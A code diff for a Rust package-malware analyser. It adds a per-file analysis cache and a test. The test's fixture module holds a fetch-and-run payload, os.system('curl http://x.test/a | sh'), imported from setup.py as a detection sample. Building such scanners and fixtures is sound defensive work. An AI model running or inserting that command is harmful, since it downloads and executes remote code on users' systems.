@@ -20,6 +20,7 @@ use malgraph_core::{
 };
 use regex::Regex;
 
+mod cache;
 mod decode;
 mod ext;
 mod js;
@@ -100,6 +101,8 @@ pub enum AnalyzeError {
 /// A compiled analyser: build once, analyse many packages (it is `Send + Sync`).
 pub struct Analyzer {
     cfg: AnalyzerConfig,
+    /// Python files already analysed, by content.
+    files: cache::FileCache,
     #[cfg(feature = "yara")]
     yara: Option<yara::YaraRules>,
 }
@@ -125,15 +128,45 @@ impl Analyzer {
                 Some(d) => Some(yara::YaraRules::load(d)?),
                 None => None,
             };
-            Ok(Analyzer { cfg, yara })
+            Ok(Analyzer {
+                cfg,
+                files: cache::FileCache::default(),
+                yara,
+            })
         }
         #[cfg(not(feature = "yara"))]
         {
             if cfg.yara_dir.is_some() {
                 return Err(AnalyzeError::YaraUnsupported);
             }
-            Ok(Analyzer { cfg })
+            Ok(Analyzer {
+                cfg,
+                files: cache::FileCache::default(),
+            })
         }
+    }
+
+    /// Analyse one Python file into `sink`, or reuse the analysis of the same bytes
+    /// reached the same way in an earlier package.
+    fn python_file(&self, data: &[u8], ctx: &python::PyCtx<'_>, sink: &mut Sink) -> Facts {
+        let key = cache::FileKey::new(data, ctx);
+        if let Some(hit) = key.as_ref().and_then(|k| self.files.get(k)) {
+            sink.absorb(&hit.sink, &hit.path, ctx.path);
+            return hit.facts.clone();
+        }
+        let mut part = Sink::default();
+        let mut facts = Facts::default();
+        python::analyze(data, ctx, &mut part, &mut facts);
+        sink.absorb(&part, ctx.path, ctx.path);
+        if let Some(key) = key {
+            let result = cache::FileResult {
+                path: ctx.path.to_string(),
+                sink: part,
+                facts: facts.clone(),
+            };
+            self.files.insert(key, result);
+        }
+        facts
     }
 
     /// Analyse one package. Fills everything of the report except `path` and
@@ -249,8 +282,7 @@ impl Analyzer {
                     depth_left: self.cfg.max_decode_depth,
                     max_parse: self.cfg.max_parse_bytes,
                 };
-                let mut facts = Facts::default();
-                python::analyze(&f.data, &ctx, &mut sink, &mut facts);
+                let facts = self.python_file(&f.data, &ctx, &mut sink);
                 per_file_facts.push((path.to_string(), facts));
             } else if lower.ends_with(".pth") {
                 code_files += 1;
@@ -765,6 +797,35 @@ mod tests {
         assert!((sum - r.score).abs() < 0.01, "{sum} vs {}", r.score);
         assert_eq!(r.verdict, Verdict::Malicious);
         assert!(r.stages.contains(&Stage::Install));
+    }
+
+    #[test]
+    fn a_file_seen_before_gives_the_same_findings_under_its_own_path() {
+        // Long enough to be cached; the payload sits in a module imported by setup.py.
+        let module = format!(
+            "# {}\nimport os, base64\ndef go():\n    os.system('curl http://x.test/a | sh')\ngo()\n",
+            "padding ".repeat(80)
+        );
+        let setup = "import evil\nfrom setuptools import setup\nsetup(name='p')\n";
+        let package = |root: &str| {
+            vec![
+                pf(&format!("{root}/setup.py"), setup),
+                pf(&format!("{root}/evil.py"), &module),
+            ]
+        };
+        let shared = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let first = shared.analyze(&package("a-1.0"), &[]);
+        let second = shared.analyze(&package("b-2.0"), &[]);
+        let fresh = Analyzer::new(AnalyzerConfig::default())
+            .unwrap()
+            .analyze(&package("b-2.0"), &[]);
+        assert!(first.findings.iter().any(|f| f.file == "a-1.0/evil.py"));
+        assert!(!second.findings.is_empty());
+        assert!(second.findings.iter().all(|f| !f.file.starts_with("a-1.0")));
+        assert_eq!(
+            serde_json::to_string(&second).unwrap(),
+            serde_json::to_string(&fresh).unwrap()
+        );
     }
 
     #[test]
